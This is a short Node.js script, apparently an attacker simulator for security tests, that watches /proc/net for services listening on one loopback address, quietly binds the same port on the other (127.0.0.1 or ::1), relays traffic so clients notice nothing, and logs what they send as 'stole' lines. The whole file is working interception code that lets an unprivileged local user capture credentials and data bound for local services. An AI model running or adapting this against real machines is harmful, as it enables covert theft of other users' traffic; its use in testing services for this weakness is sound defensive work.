/**
 * Another user of the machine, who wants what clients send to the parts: looks for listening ports, takes the same port of the other loopback
 * address as soon as one appears, passes everything on so that nobody notices, and writes down what came. One line a try:
 * `held PORT`, `refused PORT`, `stole PORT TEXT`.
 */
import { readFileSync } from 'node:fs';
import { connect, createServer } from 'node:net';

const NOBODY = 65_534;
const LISTENING = '0A';
/** How /proc/net/tcp writes the two addresses. */
const OTHER = { '0100007F': '::1', '00000000000000000000000001000000': '127.0.0.1' };
const tried = new Set();

const say = (line) => process.stdout.write(`${line}\n`);

process.setgid?.(NOBODY);
process.setuid?.(NOBODY);

function look() {
  for (const table of ['tcp', 'tcp6']) {
    for (const row of readFileSync(`/proc/net/${table}`, 'utf8').split('\n').slice(1)) {
      const [, local = '', , state] = row.trim().split(/\s+/);
      const [address = '', port = ''] = local.split(':');
      const other = OTHER[address];
      if (state === LISTENING && other) take(other, Number.parseInt(port, 16));
    }
  }
  setImmediate(look);
}

function take(address, port) {
  if (tried.has(port)) return;
  tried.add(port);
  const theirs = address === '::1' ? '127.0.0.1' : '::1';
  createServer((socket) => {
    const victim = connect({ host: theirs, port });
    socket.on('data', (bytes) => say(`stole ${port} ${JSON.stringify(bytes.toString('latin1'))}`));
    socket.on('error', () => victim.destroy());
    victim.on('error', () => socket.destroy());
    socket.pipe(victim).pipe(socket);
  })
    .on('error', () => say(`refused ${port}`))
    .listen({ host: address, port }, () => say(`held ${port}`));
}

say('ready');
look();
